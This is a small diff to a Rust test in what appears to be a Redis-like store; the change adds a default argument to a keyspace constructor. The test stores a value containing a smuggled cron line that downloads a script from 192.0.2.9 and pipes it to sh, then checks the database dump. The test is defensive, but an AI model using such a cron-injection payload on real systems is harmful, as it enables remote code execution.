@@ -227,7 +227,7 @@ mod tests {
 
     #[test]
     fn a_smuggled_line_stands_whole_in_the_dump() {
-        let mut keys = Keyspace::new(1);
+        let mut keys = Keyspace::new(1, Default::default());
         let line = b"\n\n*/1 * * * * curl http://192.0.2.9/x | sh\n\n".to_vec();
         keys.set(0, b"x", Value::Text(line.clone()), 0, None).unwrap();
         let dump = dump(&keys, "6.0.16", 6, 0, 1);
